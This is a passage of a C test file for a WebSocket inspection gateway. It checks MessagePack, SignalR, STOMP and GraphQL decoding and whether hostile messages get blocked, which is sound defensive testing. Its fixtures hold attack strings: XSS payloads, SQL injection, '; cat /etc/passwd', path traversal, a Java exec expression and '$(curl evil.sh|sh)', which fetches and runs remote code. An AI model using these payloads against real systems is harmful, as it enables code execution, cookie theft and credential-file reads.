// SPDX-License-Identifier: GPL-2.0-only
/*
 * Framework decoders (user/decode*.c) and their use by wsg_inspect(): MessagePack, SignalR
 * records, STOMP frames, GraphQL literals, the framework guess and the handshake choice, each
 * with valid, truncated and hostile inputs; then the envelope test: a sample of the dev
 * corpus wrapped in every framework's message must get the verdict its Socket.IO form gets.
 */
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cjson/cJSON.h>
#include "wsg_test.h"
#include "wsg_eval.h"
#include "conn.h"
#include "decode.h"
#include "inspect.h"
#include "prefilter.h"

WSG_TEST_MAIN

/* Leaves of one walk as "path=value" lines. */
struct wsg_leaves {
	char buf[4096];
	size_t n;
	unsigned count;
};

static int wsg_collect(void *ctx, const char *path, const char *s, size_t len, int quoted)
{
	struct wsg_leaves *l = ctx;
	int w = snprintf(l->buf + l->n, sizeof(l->buf) - l->n, "%s=%.*s\n", path, (int)len, s);

	if (w > 0 && (size_t)w < sizeof(l->buf) - l->n)
		l->n += (size_t)w;
	l->count++;
	return 0;
}

/* ---- MessagePack ---- */

struct wsg_mp_case {
	const char *name;
	const char *bytes;
	size_t len;
	enum wsg_walk_res res;
	const char *leaves;	/* expected "path=value\n" lines, NULL: not checked */
};

#define MP(name, lit, res, leaves) { name, lit, sizeof(lit) - 1, res, leaves }

static const struct wsg_mp_case wsg_mp_cases[] = {
	MP("fixmap fixstr", "\x81\xa4text\xa2hi", WSG_WALK_OK, "$.text=text\n$.text=hi\n"),
	MP("array of kinds", "\x96\x01\xc0\xc3\xcb\x40\x09\x21\xfb\x54\x44\x2d\x18"
	   "\xd9\x03<b>\xc4\x02\x41\x42",
	   WSG_WALK_OK, "$[4]=<b>\n$[5]=AB\n"),
	MP("str16 array16", "\xdc\x00\x01\xda\x00\x03xyz", WSG_WALK_OK, "$[0]=xyz\n"),
	MP("ext skipped", "\x92\xd6\x01\x00\x00\x00\x00\xc7\x02\x05" "ab", WSG_WALK_OK, ""),
	MP("int key", "\x81\x07\xa1v", WSG_WALK_OK, "$[?]=v\n"),
	MP("nested", "\x81\xa1""a\x91\x81\xa1""b\xa1""c", WSG_WALK_OK, "$.a=a\n$.a[0].b=b\n$.a[0].b=c\n"),
	MP("truncated str", "\xa5""abc", WSG_WALK_SYNTAX, NULL),
	MP("truncated array", "\x93\x01\x02", WSG_WALK_SYNTAX, NULL),
	MP("truncated str32 len", "\xdb\x00\x00", WSG_WALK_SYNTAX, NULL),
	MP("never used c1", "\x91\xc1", WSG_WALK_SYNTAX, NULL),
	MP("forged array32 count", "\xdd\xff\xff\xff\xff\x01", WSG_WALK_SYNTAX, NULL),
	MP("forged map32 count", "\xdf\xff\xff\xff\xff\x01\x01", WSG_WALK_SYNTAX, NULL),
	MP("forged bin32 len", "\xc6\xff\xff\xff\xff", WSG_WALK_SYNTAX, NULL),
	MP("forged ext32 len", "\xc9\xff\xff\xff\xff\x01", WSG_WALK_SYNTAX, NULL),
	MP("empty", "", WSG_WALK_SYNTAX, NULL),
};

WSG_TEST(msgpack_table)
{
	for (size_t i = 0; i < sizeof(wsg_mp_cases) / sizeof(wsg_mp_cases[0]); i++) {
		const struct wsg_mp_case *c = &wsg_mp_cases[i];
		struct wsg_leaves l = {};
		char scratch[256];
		struct wsg_walk w = { .leaf = wsg_collect, .ctx = &l, .scratch = scratch,
				      .max_bytes = 1 << 20 };
		size_t used = 0;
		enum wsg_walk_res r = wsg_msgpack_walk_more(&w, NULL, (const unsigned char *)c->bytes,
							    c->len, &used);

		CHECK(r == c->res, "%s: result %d, want %d", c->name, r, c->res);
		if (c->leaves)
			CHECK(!strcmp(l.buf, c->leaves), "%s: leaves\n%s", c->name, l.buf);
		if (r == WSG_WALK_OK)
			CHECK(used == c->len, "%s: used %zu of %zu", c->name, used, c->len);
	}
}

WSG_TEST(msgpack_every_prefix_is_safe)
{
	static const char doc[] = "\x85\xa1k\xa1v\xa1n\x93\x01\xcd\x01\x00\xd9\x02xy\xa1m"
				  "\x81\xa1q\xc4\x01z\xa1x\xc7\x01\x01q\xa1y\xdc\x00\x01\xc3";
	char scratch[sizeof(doc)];

	for (size_t n = 0; n < sizeof(doc) - 1; n++) {
		struct wsg_walk w = { .scratch = scratch, .max_bytes = 1 << 20 };
		size_t used;

		CHECK(wsg_msgpack_walk_more(&w, NULL, (const unsigned char *)doc, n, &used) ==
		      WSG_WALK_SYNTAX, "prefix %zu accepted", n);
	}
	CHECK(wsg_msgpack_is_doc((const unsigned char *)doc, sizeof(doc) - 1), "whole doc");
}

WSG_TEST(msgpack_bounds)
{
	unsigned char deep[64], *wide = malloc(3 + 20000);
	char scratch[64];
	struct wsg_walk w = { .scratch = scratch, .max_bytes = 1 << 20 };
	size_t used;

	REQUIRE(wide, "alloc");
	memset(deep, 0x91, sizeof(deep) - 1);
	deep[sizeof(deep) - 1] = 0xc0;
	CHECK(wsg_msgpack_walk_more(&w, NULL, deep, sizeof(deep), &used) == WSG_WALK_DEPTH,
	      "depth");
	wide[0] = 0xdc;
	wide[1] = 20000 >> 8;
	wide[2] = 20000 & 0xff;
	memset(wide + 3, 0xc0, 20000);
	memset(&w, 0, sizeof(w));
	w.scratch = scratch;
	w.max_bytes = 1 << 20;
	CHECK(wsg_msgpack_walk_more(&w, NULL, wide, 3 + 20000, &used) == WSG_WALK_NODES, "nodes");
	CHECK(wsg_msgpack_is_doc(wide, 3 + 20000), "a doc past the bounds is still a doc");
	free(wide);
}

/* ---- SignalR ---- */

/* A SignalR MessagePack invocation of target with one string argument, length-prefixed. */
static size_t wsg_sr_invocation(unsigned char *out, const char *target, const char *arg,
				size_t alen)
{
	unsigned char rec[8192];
	size_t n = 0, t = strlen(target), o = 0, v;

	rec[n++] = 0x95;		/* [type, headers, invocationId, target, arguments] */
	rec[n++] = 0x01;
	rec[n++] = 0x80;
	rec[n++] = 0xc0;
	rec[n++] = (unsigned char)(0xa0 | t);
	memcpy(rec + n, target, t);
	n += t;
	rec[n++] = 0x92;
	rec[n++] = 0xa5;
	memcpy(rec + n, "alice", 5);
	n += 5;
	rec[n++] = 0xda;
	rec[n++] = (unsigned char)(alen >> 8);
	rec[n++] = (unsigned char)alen;
	memcpy(rec + n, arg, alen);
	n += alen;
	for (v = n; v >= 0x80; v >>= 7)
		out[o++] = (unsigned char)(v | 0x80);
	out[o++] = (unsigned char)v;
	memcpy(out + o, rec, n);
	return o + n;
}

WSG_TEST(signalr_framing)
{
	static const char hs_json[] = "{\"protocol\":\"json\",\"version\":1}\x1e";
	static const char hs_mp[] = "{\"protocol\":\"messagepack\",\"version\":1}\x1e";
	unsigned char bin[9000];
	size_t n, pos = 0, off, rlen;
	int mp = -1;

	CHECK(wsg_signalr_handshake(hs_json, sizeof(hs_json) - 1, &mp) && mp == 0, "json hs");
	CHECK(wsg_signalr_handshake(hs_mp, sizeof(hs_mp) - 1, &mp) && mp == 1, "msgpack hs");
	CHECK(!wsg_signalr_handshake(hs_json, sizeof(hs_json) - 2, NULL), "hs without 0x1E");
	CHECK(!wsg_signalr_handshake("{\"protocol\":\"xml\"}\x1e", 19, NULL), "unknown protocol");
	CHECK(!wsg_signalr_handshake("{\"json\":\"protocol\"}\x1e", 20, NULL), "key not value");
	CHECK(wsg_signalr_json_is("{\"type\":6}\x1e", 11), "ping record");
	CHECK(wsg_signalr_json_is("{\"type\":6}\x1e{\"type\":6}\x1e\n", 23), "two records");
	CHECK(!wsg_signalr_json_is("{\"type\":6}", 10), "no separator");
	CHECK(!wsg_signalr_json_is("hello\x1e", 6), "text record");

	/* a 300-byte argument needs a two-byte varint */
	char arg[300];

	memset(arg, 'a', sizeof(arg));
	n = wsg_sr_invocation(bin, "Send", arg, sizeof(arg));
	CHECK(bin[0] & 0x80, "two-byte varint");
	CHECK(wsg_signalr_bin_next(bin, n, &pos, &off, &rlen) == 1 && pos == n && off == 2,
	      "record at %zu len %zu", off, rlen);
	CHECK(wsg_signalr_bin_next(bin, n, &pos, &off, &rlen) == 0, "end");
	CHECK(wsg_signalr_bin_is(bin, n), "bin record");
	for (size_t k = 0; k < n; k++)
		CHECK(!wsg_signalr_bin_is(bin, k), "prefix %zu accepted", k);
	pos = 0;
	CHECK(wsg_signalr_bin_next((const unsigned char *)"\xff\xff\xff\xff\xff\x01", 6, &pos,
				   &off, &rlen) == -1, "six-byte varint");
	pos = 0;
	CHECK(wsg_signalr_bin_next((const unsigned char *)"\x05\x01", 2, &pos, &off, &rlen) == -1,
	      "length past the end");
	CHECK(!wsg_signalr_bin_is((const unsigned char *)"\x02\x91\x09", 3), "type 9");
}

/* ---- STOMP ---- */

struct wsg_stomp_case {
	const char *name;
	const char *msg;
	size_t len;
	int frames;		/* frames parsed before the end, -1: not STOMP at the start */
	const char *body0;	/* body of the first frame */
	size_t body0_len;
};

#define ST(name, lit, frames, body0) \
	{ name, lit, sizeof(lit) - 1, frames, body0, sizeof(body0) - 1 }

static const struct wsg_stomp_case wsg_stomp_cases[] = {
	ST("send", "SEND\ndestination:/q\n\nhello\0", 1, "hello"),
	ST("crlf", "SEND\r\ndestination:/q\r\n\r\nhello\0\r\n", 1, "hello"),
	ST("no headers", "DISCONNECT\n\n\0", 1, ""),
	ST("content-length with NUL", "SEND\ncontent-length:5\n\na\0b\0c\0", 1, "a\0b\0c"),
	ST("bad content-length", "SEND\ncontent-length:5x\n\nab\0", 1, "ab"),
	ST("content-length too long", "SEND\ncontent-length:99\n\nab\0", 1, "ab"),
	ST("no NUL", "SEND\nd:/q\n\nunterminated", 1, "unterminated"),
	ST("two frames, heart-beats", "\n\nSEND\na:b\n\nx\0\n\r\nACK\nid:1\n\n\0\n", 2, "x"),
	ST("unknown command", "HELLO\n\n\0", -1, ""),
	ST("lowercase command", "send\n\n\0", -1, ""),
	ST("no blank line", "SEND\ndestination:/q\n", -1, ""),
	ST("no EOL", "SEND", -1, ""),
	ST("chat", "hello there\n\nhow are you", -1, ""),
};

WSG_TEST(stomp_table)
{
	for (size_t i = 0; i < sizeof(wsg_stomp_cases) / sizeof(wsg_stomp_cases[0]); i++) {
		const struct wsg_stomp_case *c = &wsg_stomp_cases[i];
		struct wsg_stomp_frame f, first = {};
		size_t pos = 0;
		int n = 0, r;

		while ((r = wsg_stomp_next(c->msg, c->len, &pos, &f)) > 0) {
			if (!n)
				first = f;
			n++;
			REQUIRE(n < 10, "%s: no progress", c->name);
		}
		CHECK((r < 0 && !n ? -1 : n) == c->frames, "%s: %d frames (r %d)", c->name, n, r);
		if (c->frames > 0)
			CHECK(first.body_len == c->body0_len &&
			      !memcmp(first.body, c->body0, c->body0_len),
			      "%s: body %.*s", c->name, (int)first.body_len, first.body);
	}
}

WSG_TEST(stomp_headers_and_escapes)
{
	static const char m[] = "SEND\ndestination:/a\\cb\nx-y:1:2\nbare\n\nz\0";
	static const char conn[] = "CONNECT\nlogin:a\\cb\n\n\0";
	struct wsg_stomp_frame f;
	const char *nm, *v;
	size_t pos = 0, hpos = 0, nl, vl, n;
	char out[64];

	REQUIRE(wsg_stomp_next(m, sizeof(m) - 1, &pos, &f) == 1, "frame");
	CHECK(f.escapes, "SEND has escapes");
	REQUIRE(wsg_stomp_header(&f, &hpos, &nm, &nl, &v, &vl) == 1, "h1");
	CHECK(nl == 11 && vl == 5 && !memcmp(v, "/a\\cb", 5), "h1 %.*s", (int)vl, v);
	n = wsg_stomp_unescape(v, vl, out);
	CHECK(n == 4 && !strcmp(out, "/a:b"), "unescaped %s", out);
	REQUIRE(wsg_stomp_header(&f, &hpos, &nm, &nl, &v, &vl) == 1, "h2");
	CHECK(nl == 3 && vl == 3 && !memcmp(v, "1:2", 3), "first colon splits");
	REQUIRE(wsg_stomp_header(&f, &hpos, &nm, &nl, &v, &vl) == 1, "h3");
	CHECK(nl == 4 && vl == 0, "bare name");
	CHECK(wsg_stomp_header(&f, &hpos, &nm, &nl, &v, &vl) == 0, "end");
	n = wsg_stomp_unescape("a\\nb\\rc\\\\d\\te\\", 14, out);
	CHECK(n == 11 && !memcmp(out, "a\nb\rc\\d\\te\\", 11), "escapes %zu", n);
	pos = 0;
	REQUIRE(wsg_stomp_next(conn, sizeof(conn) - 1, &pos, &f) == 1, "connect");
	CHECK(!f.escapes, "CONNECT has no escapes");
}

/* ---- GraphQL ---- */

static int wsg_gql_collect(void *ctx, unsigned idx, const char *lit, size_t n)
{
	return wsg_collect(ctx, idx ? "+" : "0", lit, n, 0);
}

WSG_TEST(graphql_literals)
{
	static const struct {
		const char *doc, *lits;
		int is_doc;
	} t[] = {
		{ "{ me { id } }", "", 1 },
		{ "query Q($a: String) { f(a: $a) }", "", 1 },
		{ "  # c\n mutation { send(text: \"hi\", to: \"bob\") { id } }", "0=hi\n+=bob\n", 1 },
		{ "subscription { s(x: \"a\\\"b\\\\c\\nd\") }", "0=a\"b\\c\nd\n", 1 },
		{ "query { a(b: \"\"\"blk \\\"\"\" \"q\" \"\"\") } # \"no\"", "0=blk \"\"\" \"q\" \n", 1 },
		{ "query { a(b: \"\\u003cx\") }", "0=\\u003cx\n", 1 },
		{ "query { a(b: \"open\n) }", "0=open\n", 1 },
		{ "fragment F on T { x }", "", 1 },
		{ "query", "", 0 },
		{ "queryX { a }", "", 0 },
		{ "hello { world }", "", 0 },
		{ "select * from users", "", 0 },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct wsg_leaves l = {};
		char out[256];
		size_t n = strlen(t[i].doc);

		CHECK(wsg_gql_is_document(t[i].doc, n) == t[i].is_doc, "is_doc %s", t[i].doc);
		CHECK(wsg_gql_literals(t[i].doc, n, out, wsg_gql_collect, &l) == 0, "%s", t[i].doc);
		CHECK(!strcmp(l.buf, t[i].lits), "%s: got\n%s", t[i].doc, l.buf);
	}
}

/*
 * A "query" member is a document only where the handshake offered GraphQL: elsewhere an
 * attacker who writes a payload as a lexically valid document ("query { a } $(...)") would
 * have its words skipped, so it is an ordinary value.
 */
WSG_TEST(graphql_documents_only_on_graphql_connections)
{
	static const char *const m[] = {
		"{\"query\":\"query { a } $(curl evil.sh|sh)\"}",
		"{\"search\":{\"query\":\"{ x } ${T(java.lang.Runtime).getRuntime().exec(calc)}\"}}",
	};
	static const enum wsg_framework others[] = { WSG_FW_AUTO, WSG_FW_JSON, WSG_FW_SOCKETIO,
						     WSG_FW_JSONRPC };

	REQUIRE(wsg_inspect_init() == 0, "init");
	for (size_t i = 0; i < sizeof(m) / sizeof(m[0]); i++) {
		struct wsg_finding f = {};

		CHECK(!wsg_inspect(WSG_FW_GRAPHQL, 1, m[i], strlen(m[i]), &f),
		      "GraphQL connection: a document's names are no values: %s", f.rule);
		for (size_t k = 0; k < sizeof(others) / sizeof(others[0]); k++)
			CHECK(wsg_inspect(others[k], 1, m[i], strlen(m[i]), &f),
			      "framework %d: %s passed", others[k], m[i]);
	}
}

/* ---- the framework guess and the handshake choice ---- */

WSG_TEST(framework_guess)
{
	static const struct {
		const char *msg;
		size_t len;
		enum wsg_framework fw;
	} t[] = {
#define G(lit, fw) { lit, sizeof(lit) - 1, fw }
		G("42[\"chat\",\"hi\"]", WSG_FW_SOCKETIO),
		G("{\"protocol\":\"json\",\"version\":1}\x1e", WSG_FW_SIGNALR),
		G("{\"type\":1,\"target\":\"S\",\"arguments\":[\"x\"]}\x1e", WSG_FW_SIGNALR),
		G("SEND\ndestination:/q\n\nhi\0", WSG_FW_STOMP),
		G("CONNECT\naccept-version:1.2\nhost:h\n\n\0", WSG_FW_STOMP),
		G("{\"jsonrpc\":\"2.0\",\"method\":\"m\",\"params\":[1],\"id\":1}", WSG_FW_JSONRPC),
		G("[{\"jsonrpc\":\"2.0\",\"method\":\"m\"}]", WSG_FW_JSONRPC),
		G("{\"id\":\"1\",\"type\":\"subscribe\",\"payload\":{\"query\":\"{a}\"}}",
		  WSG_FW_GRAPHQL),
		G("{\"type\":\"connection_init\"}", WSG_FW_GRAPHQL),
		G("{\"text\":\"hi\"}", WSG_FW_JSON),
		G("SEND me the file please", WSG_FW_TEXT),
		G("hello\x1e", WSG_FW_TEXT),
		G("hello", WSG_FW_TEXT),
#undef G
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		CHECK(wsg_fw_guess(1, t[i].msg, t[i].len) == t[i].fw, "%zu: %.40s -> %d", i,
		      t[i].msg, wsg_fw_guess(1, t[i].msg, t[i].len));
}

static enum wsg_framework wsg_hs_fw(const char *req)
{
	struct wsg_conn_d *c = wsg_conn_new(7);
	struct wsg_verdict v = {};
	enum wsg_framework fw;

	if (!c)
		return (enum wsg_framework)-1;
	wsg_conn_append(c, req, strlen(req));
	wsg_conn_process(c, &v);
	fw = c->fw;
	wsg_conn_free(c);
	return fw;
}

WSG_TEST(framework_from_handshake)
{
	static const struct {
		const char *path, *hdr;
		enum wsg_framework fw;
	} t[] = {
		{ "/socket.io/?EIO=4&transport=websocket", "", WSG_FW_SOCKETIO },
		{ "/graphql", "Sec-WebSocket-Protocol: graphql-transport-ws\r\n", WSG_FW_GRAPHQL },
		{ "/subscriptions", "Sec-WebSocket-Protocol: graphql-ws\r\n", WSG_FW_GRAPHQL },
		{ "/ws", "Sec-WebSocket-Protocol: v10.stomp, v11.stomp, V12.STOMP\r\n", WSG_FW_STOMP },
		{ "/chathub?id=Abc123", "", WSG_FW_SIGNALR },
		{ "/hubs/chat", "", WSG_FW_SIGNALR },
		{ "/client/?hub=chat&asrs.op=%2Fclient", "", WSG_FW_SIGNALR },
		{ "/ws?sid=1&uid=2", "", WSG_FW_AUTO },
		{ "/chat", "Sec-WebSocket-Protocol: chat, superchat\r\n", WSG_FW_AUTO },
		{ "/chat", "Sec-WebSocket-Protocol: graphql-wsx\r\n", WSG_FW_AUTO },
	};

	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		char req[512];

		snprintf(req, sizeof(req), "GET %s HTTP/1.1\r\nHost: h\r\nUpgrade: websocket\r\n%s\r\n",
			 t[i].path, t[i].hdr);
		CHECK(wsg_hs_fw(req) == t[i].fw, "%s %s-> %d", t[i].path, t[i].hdr, wsg_hs_fw(req));
	}
}

/* ---- wsg_inspect() per framework ---- */

struct wsg_msg_case {
	const char *name;
	enum wsg_framework fw;
	int is_text;
	const char *msg;
	size_t len;
	const char *rule;	/* expected rule prefix ("xss", "dec-005"), NULL: must pass */
	const char *where;	/* expected path prefix, NULL: not checked */
};

#define M(name, fw, lit, rule, where) { name, fw, 1, lit, sizeof(lit) - 1, rule, where }

static const struct wsg_msg_case wsg_msg_cases[] = {
	M("signalr handshake", WSG_FW_SIGNALR, "{\"protocol\":\"json\",\"version\":1}\x1e", NULL,
	  NULL),
	M("signalr ping", WSG_FW_AUTO, "{\"type\":6}\x1e", NULL, NULL),
	M("signalr benign", WSG_FW_AUTO,
	  "{\"type\":1,\"target\":\"SendMessage\",\"arguments\":[\"bob\",\"see you at 5\"]}\x1e",
	  NULL, NULL),
	M("signalr xss", WSG_FW_AUTO,
	  "{\"type\":6}\x1e{\"type\":1,\"target\":\"Send\",\"arguments\":[\"<svg onload=alert(1)>\"]}"
	  "\x1e", "xss", "$r1.arguments[0]"),
	M("signalr forced on chat", WSG_FW_SIGNALR, "<script>alert(1)</script>", "xss", "$"),
	M("stomp connect", WSG_FW_STOMP,
	  "CONNECT\naccept-version:1.2\nhost:chat\nlogin:guest\npasscode:guest\n\n\0", NULL, NULL),
	M("stomp heart-beat", WSG_FW_STOMP, "\n", NULL, NULL),
	M("stomp benign", WSG_FW_AUTO,
	  "SEND\ndestination:/app/chat\ncontent-type:application/json\n\n{\"text\":\"it's ok\"}\0",
	  NULL, NULL),
	M("stomp json body", WSG_FW_AUTO,
	  "SEND\ndestination:/app/chat\n\n{\"text\":\"1' union select password from users--\"}\0",
	  "sqli", "$f0.body.text"),
	M("stomp text body", WSG_FW_STOMP, "SEND\ndestination:/q\n\n; cat /etc/passwd\0", "rce",
	  "$f0.body"),
	M("stomp second frame", WSG_FW_AUTO,
	  "SEND\ndestination:/q\n\nhi\0\nSEND\ndestination:/q\n\n<script>alert(1)</script>\0",
	  "xss", "$f1.body"),
	M("stomp escaped header", WSG_FW_STOMP,
	  "SEND\ndestination:/q\nx-link:javascript\\calert(document.cookie)\n\nhi\0", "xss",
	  "$f0.h"),
	M("stomp forced on json", WSG_FW_STOMP, "{\"t\":\"<script>alert(1)</script>\"}", "xss",
	  "$.t"),
	M("graphql init", WSG_FW_GRAPHQL, "{\"type\":\"connection_init\",\"payload\":{}}", NULL,
	  NULL),
	M("graphql benign", WSG_FW_AUTO,
	  "{\"id\":\"1\",\"type\":\"subscribe\",\"payload\":{\"query\":\"subscription { chat(room: "
	  "\\\"general\\\") { id text } }\",\"variables\":{}}}", NULL, NULL),
	M("graphql variable", WSG_FW_GRAPHQL,
	  "{\"id\":\"1\",\"type\":\"start\",\"payload\":{\"query\":\"query Q($u: String) { "
	  "user(name: $u) { id } }\",\"variables\":{\"u\":\"admin' or '1'='1\"}}}", "sqli",
	  "$.payload.variables.u"),
	M("graphql literal", WSG_FW_AUTO,
	  "{\"id\":\"1\",\"type\":\"subscribe\",\"payload\":{\"query\":\"mutation { post(body: "
	  "\\\"\\\\u003cscript\\\\u003ealert(1)\\\\u003c/script\\\\u003e\\\") { id } }\"}}", "xss",
	  "$.payload.query"),
	M("jsonrpc batch", WSG_FW_AUTO,
	  "[{\"jsonrpc\":\"2.0\",\"method\":\"a\",\"id\":1},{\"jsonrpc\":\"2.0\",\"method\":"
	  "\"files.read\",\"params\":[\"../../../../etc/passwd\"],\"id\":2}]", "lfi", "$[1].params[0]"),
	M("jsonrpc benign", WSG_FW_JSONRPC,
	  "{\"jsonrpc\":\"2.0\",\"method\":\"chat.send\",\"params\":{\"text\":\"brb 5 min\"},\"id\":3}",
	  NULL, NULL),
	M("sio 11 attachments", WSG_FW_AUTO, "4511-[\"up\",{\"_placeholder\":true,\"num\":0}]",
	  "dec-007", "$"),
	M("sio 2 attachments", WSG_FW_SOCKETIO,
	  "452-[\"up\",{\"_placeholder\":true,\"num\":0},{\"_placeholder\":true,\"num\":1}]", NULL,
	  NULL),
	{ "sio binary attachment", WSG_FW_SOCKETIO, 0, "\x04<script>alert(1)</script>", 26, "xss",
	  "$attachment" },
	{ "binary msgpack map", WSG_FW_AUTO, 0, "\x82\xa4type\x02\xa4\x64\x61ta\x92\xa4\x63hat\xbc"
	  "<img src=x onerror=alert(1)>", 47, "xss", "$.data[1]" },
};

WSG_TEST(inspect_frameworks)
{
	REQUIRE(wsg_inspect_init() == 0, "init");
	for (size_t i = 0; i < sizeof(wsg_msg_cases) / sizeof(wsg_msg_cases[0]); i++) {
		const struct wsg_msg_case *c = &wsg_msg_cases[i];
		struct wsg_finding f = {};
		int b = wsg_inspect(c->fw, c->is_text, c->msg, c->len, &f);

		if (!c->rule) {
			CHECK(!b, "%s: blocked by %s at %s (%s)", c->name, f.rule, f.where, f.excerpt);
			continue;
		}
		CHECK(b && (!strncmp(f.rule, c->rule, strlen(c->rule)) || !strcmp(f.cls, c->rule)),
		      "%s: want %s, got %s", c->name, c->rule, b ? f.rule : "allow");
		if (b && c->where)
			CHECK(!strncmp(f.where, c->where, strlen(c->where)), "%s: at %s, want %s",
			      c->name, f.where, c->where);
	}
}

WSG_TEST(inspect_signalr_msgpack)
{
	static const char atk[] = "<img src=x onerror=alert(document.domain)>";
	unsigned char bin[9000];
	struct wsg_finding f = {};
	size_t n;

	REQUIRE(wsg_inspect_init() == 0, "init");
	n = wsg_sr_invocation(bin, "SendMessage", atk, sizeof(atk) - 1);
	n += wsg_sr_invocation(bin + n, "SendMessage", "hello", 5);
	CHECK(wsg_inspect(WSG_FW_SIGNALR, 0, (const char *)bin, n, &f) &&
	      !strcmp(f.cls, "xss") && !strcmp(f.where, "$r0[4][1]"), "signalr msgpack: %s %s",
	      f.rule, f.where);
	CHECK(wsg_inspect(WSG_FW_AUTO, 0, (const char *)bin, n, &f), "auto msgpack");
	n = wsg_sr_invocation(bin, "SendMessage", "lunch at noon?", 14);
	CHECK(!wsg_inspect(WSG_FW_AUTO, 0, (const char *)bin, n, &f), "benign: %s", f.rule);
	/* a truncated record is inspected as text: the attack bytes are still seen */
	n = wsg_sr_invocation(bin, "SendMessage", atk, sizeof(atk) - 1);
	CHECK(wsg_inspect(WSG_FW_SIGNALR, 0, (const char *)bin, n - 3, &f), "truncated");
}

/* Repeat unit (n times) between head and tail into a heap message; NULs allowed. */
static char *wsg_repeat(const char *head, size_t hl, const char *unit, size_t ul, size_t n,
			const char *tail, size_t tl, size_t *len)
{
	char *m = malloc(hl + ul * n + tl + 1), *p = m;

	if (!m)
		return NULL;
	memcpy(p, head, hl);
	p += hl;
	for (size_t i = 0; i < n; i++, p += ul)
		memcpy(p, unit, ul);
	memcpy(p, tail, tl);
	*len = hl + ul * n + tl;
	return m;
}

WSG_TEST(inspect_hostile_structures)
{
#define H(name, head, unit, tail, rule, n, fw) \
	{ name, head, sizeof(head) - 1, unit, sizeof(unit) - 1, tail, sizeof(tail) - 1, rule, n, fw }
	static const struct {
		const char *name, *head;
		size_t hl;
		const char *unit;
		size_t ul;
		const char *tail;
		size_t tl;
		const char *rule;
		size_t n;
		enum wsg_framework fw;
	} t[] = {
		H("signalr records", "", "{}\x1e", "", "dec-005", 1001, WSG_FW_AUTO),
		H("signalr deep record", "", "[", "\x1e", "dec-001", 40, WSG_FW_SIGNALR),
		H("stomp frames", "", "ACK\nid:1\n\n\0", "", "dec-005", 1001, WSG_FW_AUTO),
		H("stomp headers", "SEND\n", "a:b\n", "\n\0", "dec-002", 10001, WSG_FW_STOMP),
		H("graphql literals", "{\"type\":\"start\",\"payload\":{\"query\":\"{ a(",
		  "x: \\\"y\\\" ", ") }\"}}", "dec-006", 1001, WSG_FW_GRAPHQL),
		H("stomp deep json body", "SEND\n\n", "[", "\0", "dec-001", 40, WSG_FW_STOMP),
	};
#undef H

	REQUIRE(wsg_inspect_init() == 0, "init");
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		struct wsg_finding f = {};
		size_t len;
		char *m = wsg_repeat(t[i].head, t[i].hl, t[i].unit, t[i].ul, t[i].n, t[i].tail,
				     t[i].tl, &len);

		REQUIRE(m, "alloc");
		CHECK(wsg_inspect(t[i].fw, 1, m, len, &f) && !strcmp(f.rule, t[i].rule) &&
		      !strcmp(f.cls, "decode"), "%s: got %s", t[i].name, f.rule ? f.rule : "allow");
		free(m);
	}
	{
		struct wsg_finding f = {};
		size_t len;
		char *m = wsg_repeat("", 0, "{}\x1e", 3, 1000, "", 0, &len);

		REQUIRE(m, "alloc");
		CHECK(!wsg_inspect(WSG_FW_SIGNALR, 1, m, len, &f), "1000 records pass: %s", f.rule);
		free(m);
	}
}

struct wsg_explained {
	unsigned n;
	int saw_norm;
};

static void wsg_explain_cb(void *ctx, const char *path, const char *s, size_t len,
			   const char *norm, size_t nlen)
{
	struct wsg_explained *e = ctx;

	e->n++;
	if (!strcmp(path, "$r0.arguments[0]") && len == 7 && nlen == 3 && !strcmp(norm, "<b>"))
		e->saw_norm = 1;
}

WSG_TEST(inspect_explain)
{
	static const char m[] = "{\"type\":1,\"target\":\"T\",\"arguments\":[\"%3CB%3E\"]}\x1e";
	struct wsg_explained e = {};
	struct wsg_finding f = {};

	REQUIRE(wsg_inspect_init() == 0, "init");
	wsg_inspect_explain(WSG_FW_AUTO, 1, m, sizeof(m) - 1, &f, wsg_explain_cb, &e);
	/* keys type, target, arguments; values "T" and the argument (numbers are no leaves) */
	CHECK(e.n == 5 && e.saw_norm, "%u leaves, norm %d", e.n, e.saw_norm);
}

/* ---- the envelope test on the dev corpus ---- */

struct wsg_buf {
	char *s;
	size_t n, cap;
};

static void wsg_put(struct wsg_buf *b, const void *p, size_t n)
{
	if (b->n + n + 1 > b->cap) {
		b->cap = (b->n + n + 1) * 2;
		b->s = realloc(b->s, b->cap);
		if (!b->s)
			abort();
	}
	memcpy(b->s + b->n, p, n);
	b->n += n;
	b->s[b->n] = 0;
}

static void wsg_puts(struct wsg_buf *b, const char *s)
{
	wsg_put(b, s, strlen(s));
}

/* JSON string body of p (as JSON.stringify writes it); all_u: every ASCII byte as \u00XX. */
static void wsg_put_json(struct wsg_buf *b, const char *p, size_t n, int all_u)
{
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)p[i];
		char e[8];

		if (all_u && c < 0x80) {
			snprintf(e, sizeof(e), "\\u%04x", c);
			wsg_puts(b, e);
		} else if (c == '"' || c == '\\') {
			e[0] = '\\';
			e[1] = (char)c;
			wsg_put(b, e, 2);
		} else if (c == '\n') {
			wsg_puts(b, "\\n");
		} else if (c == '\r') {
			wsg_puts(b, "\\r");
		} else if (c == '\t') {
			wsg_puts(b, "\\t");
		} else if (c < 0x20) {
			snprintf(e, sizeof(e), "\\u%04x", c);
			wsg_puts(b, e);
		} else {
			wsg_put(b, &p[i], 1);
		}
	}
}

/* A GraphQL string literal of p, then JSON-escaped as part of the query string. */
static void wsg_put_gql_json(struct wsg_buf *b, const char *p, size_t n)
{
	struct wsg_buf g = {};

	wsg_puts(&g, "\"");
	for (size_t i = 0; i < n; i++) {
		unsigned char c = (unsigned char)p[i];
		char e[8];

		if (c == '"' || c == '\\') {
			e[0] = '\\';
			e[1] = (char)c;
			wsg_put(&g, e, 2);
		} else if (c < 0x20) {
			snprintf(e, sizeof(e), "\\u%04x", c);
			wsg_puts(&g, e);
		} else {
			wsg_put(&g, &p[i], 1);
		}
	}
	wsg_puts(&g, "\"");
	wsg_put_json(b, g.s, g.n, 0);
	free(g.s);
}

enum {
